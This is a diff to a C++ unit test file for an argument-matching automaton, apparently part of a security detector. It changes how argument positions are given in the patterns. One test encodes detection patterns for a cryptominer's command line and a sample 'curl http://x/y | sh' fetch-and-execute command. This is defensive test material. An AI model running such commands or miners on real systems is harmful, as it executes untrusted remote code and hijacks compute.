@@ -25,8 +25,8 @@ automaton::Table table_of(const std::vector<ArgumentPattern>& patterns) {
 
 TEST(AutomatonWalk, Positions) {
     std::vector<ArgumentPattern> patterns;
-    for (std::uint32_t position = 0; position < 8; position++) patterns.push_back({Kind::kExact, "a", position, position});
-    patterns.push_back({Kind::kExact, "a", std::nullopt, 8});
+    for (std::uint32_t position = 0; position < 8; position++) patterns.push_back({Kind::kExact, "a", 1u << position, position});
+    patterns.push_back({Kind::kExact, "a", kAnyArgument, 8});
     const automaton::Table table = table_of(patterns);
     for (std::uint32_t position = 0; position < 12; position++) {
         std::vector<std::string> arguments(position + 1);
@@ -37,10 +37,10 @@ TEST(AutomatonWalk, Positions) {
 }
 
 TEST(AutomatonWalk, EmptyArgumentsAndNoArguments) {
-    const automaton::Table table = table_of({{Kind::kExact, "", std::nullopt, 0},
-                                             {Kind::kGlob, "*", std::nullopt, 1},
-                                             {Kind::kGlob, "?", std::nullopt, 2},
-                                             {Kind::kSuffix, "", 1, 3}});
+    const automaton::Table table = table_of({{Kind::kExact, "", kAnyArgument, 0},
+                                             {Kind::kGlob, "*", kAnyArgument, 1},
+                                             {Kind::kGlob, "?", kAnyArgument, 2},
+                                             {Kind::kSuffix, "", 1u << 1, 3}});
     EXPECT_EQ(automaton::walk(table, "").outputs, Outputs{});
     EXPECT_EQ(automaton::walk(table, with_ends({""})).outputs, (Outputs{0, 1}));
     EXPECT_EQ(automaton::walk(table, with_ends({"a"})).outputs, (Outputs{1, 2}));
@@ -49,11 +49,11 @@ TEST(AutomatonWalk, EmptyArgumentsAndNoArguments) {
 }
 
 TEST(AutomatonWalk, ACommandLineOfAMiner) {
-    const automaton::Table table = table_of({{Kind::kContains, "stratum+tcp://", std::nullopt, 0},
-                                             {Kind::kPrefix, "--donate-level", std::nullopt, 0},
-                                             {Kind::kGlob, "curl * | sh", 2, 1},
-                                             {Kind::kSuffix, "/bash", 0, 2},
-                                             {Kind::kExact, "-e", 1, 3}});
+    const automaton::Table table = table_of({{Kind::kContains, "stratum+tcp://", kAnyArgument, 0},
+                                             {Kind::kPrefix, "--donate-level", kAnyArgument, 0},
+                                             {Kind::kGlob, "curl * | sh", 1u << 2, 1},
+                                             {Kind::kSuffix, "/bash", 1u << 0, 2},
+                                             {Kind::kExact, "-e", 1u << 1, 3}});
     EXPECT_EQ(automaton::walk(table, with_ends({"/tmp/x", "-o", "stratum+tcp://pool:3333", "--donate-level=1"})).outputs, Outputs{0});
     EXPECT_EQ(automaton::walk(table, with_ends({"/bin/bash", "-c", "curl http://x/y | sh"})).outputs, (Outputs{1, 2}));
     EXPECT_EQ(automaton::walk(table, with_ends({"bash", "curl http://x/y | sh", "-e"})).outputs, Outputs{});
@@ -62,7 +62,7 @@ TEST(AutomatonWalk, ACommandLineOfAMiner) {
 }
 
 TEST(AutomatonWalk, CutAtItsLongest) {
-    const automaton::Table table = table_of({{Kind::kSuffix, "b", std::nullopt, 0}, {Kind::kContains, "c", std::nullopt, 1}});
+    const automaton::Table table = table_of({{Kind::kSuffix, "b", kAnyArgument, 0}, {Kind::kContains, "c", kAnyArgument, 1}});
     std::string arguments(automaton::kMaxWalkBytes - 2, 'a');
     arguments += std::string("b\0", 2);
     automaton::Walked walked = automaton::walk(table, arguments);
@@ -77,7 +77,7 @@ TEST(AutomatonWalk, CutAtItsLongest) {
 
 TEST(AutomatonWalk, CutWhereEveryByteHits) {
     std::vector<ArgumentPattern> patterns;
-    for (std::uint32_t i = 0; i < 255; i++) patterns.push_back({Kind::kContains, "a", std::nullopt, i});
+    for (std::uint32_t i = 0; i < 255; i++) patterns.push_back({Kind::kContains, "a", kAnyArgument, i});
     const automaton::Walked walked = automaton::walk(table_of(patterns), std::string(10'000, 'a'));
     EXPECT_TRUE(walked.cut);
     EXPECT_EQ(walked.bytes, automaton::kMaxWalkHits / 255 + 1);
@@ -85,7 +85,7 @@ TEST(AutomatonWalk, CutWhereEveryByteHits) {
 }
 
 TEST(AutomatonWalk, OneRunLeavesNothingToTheNext) {
-    const automaton::Table table = table_of({{Kind::kGlob, "*ab*cd*", std::nullopt, 0}});
+    const automaton::Table table = table_of({{Kind::kGlob, "*ab*cd*", kAnyArgument, 0}});
     automaton::Walk walk(table);
     EXPECT_EQ(walk.run(with_ends({"ab", "cd"})).outputs, Outputs{});
     EXPECT_EQ(walk.run("ab").outputs, Outputs{});
